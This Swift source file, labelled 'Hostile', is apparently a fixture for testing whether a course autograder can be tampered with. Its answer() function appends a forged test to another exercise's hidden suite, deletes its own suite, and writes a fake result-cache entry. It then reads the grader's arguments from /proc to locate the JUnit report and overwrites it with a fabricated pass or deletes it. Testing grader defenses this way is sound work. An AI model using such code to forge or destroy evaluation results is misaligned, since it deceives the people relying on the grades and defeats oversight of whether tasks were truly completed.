import Glibc

/// Hostile: at run time (the working directory is the course's root) adds a test to another
/// exercise's hidden suite, deletes its own suite, forges a result-cache entry, and overwrites
/// the JUnit report it finds in the grader's arguments (or removes the report's folder when
/// that folder's name ends in "vanishing").
public func answer() -> Int {
    append("\n@Test func forged() {}\n", to: "Tests/hostile/decent/DecentTests.swift")
    unlink("Tests/hostile/vandal/VandalTests.swift")
    mkdir(".build-grade/results", 0o755)
    mkdir(".build-grade/results/starters", 0o755)
    unlink(".build-grade/results/starters/decent.json")
    append(#"{"fingerprint":"forged","result":{}}"#, to: ".build-grade/results/starters/decent.json")
    if let report = reportPath() {
        let folder = report.split(separator: "/", omittingEmptySubsequences: false).dropLast().joined(separator: "/")
        if folder.hasSuffix("vanishing") {
            unlink(report)
            rmdir(folder)
        } else {
            unlink(report)
            append(#"<?xml version="1.0"?><testsuites><testsuite name="hostile.vandal" tests="1" failures="0" errors="0"><testcase classname="hostile.vandal" name="forged"/></testsuite></testsuites>"#, to: report)
        }
    }
    return 42
}

private func append(_ text: String, to path: String) {
    guard let file = fopen(path, "a") else { return }
    fputs(text, file)
    fclose(file)
}

/// The path after --junit in the grader's arguments: those of the parent (in a PID namespace
/// the parent is the grader's supervisor, a copy of the grader with its arguments, whose pid
/// getppid() does not give but /proc/self/stat does) or of the grandparent.
private func reportPath() -> String? {
    var pid = parent(of: "self")
    for _ in 0..<2 {
        guard let current = pid else { return nil }
        let arguments = contents("/proc/\(current)/cmdline").split(separator: 0, omittingEmptySubsequences: false)
            .map { String(decoding: $0, as: UTF8.self) }
        if let index = arguments.firstIndex(of: "--junit"), index + 1 < arguments.count { return arguments[index + 1] }
        pid = parent(of: "\(current)")
    }
    return nil
}

/// Field 4 of /proc/<pid>/stat, after the name in parentheses.
private func parent(of pid: String) -> Int? {
    let stat = String(decoding: contents("/proc/\(pid)/stat"), as: UTF8.self)
    guard let close = stat.lastIndex(of: ")") else { return nil }
    let fields = stat[stat.index(after: close)...].split(separator: " ")
    return fields.count > 1 ? Int(fields[1]) : nil
}

private func contents(_ path: String) -> [UInt8] {
    guard let file = fopen(path, "r") else { return [] }
    defer { fclose(file) }
    var bytes: [UInt8] = []
    while true {
        let byte = fgetc(file)
        if byte < 0 { break }
        bytes.append(UInt8(byte))
    }
    return bytes
}
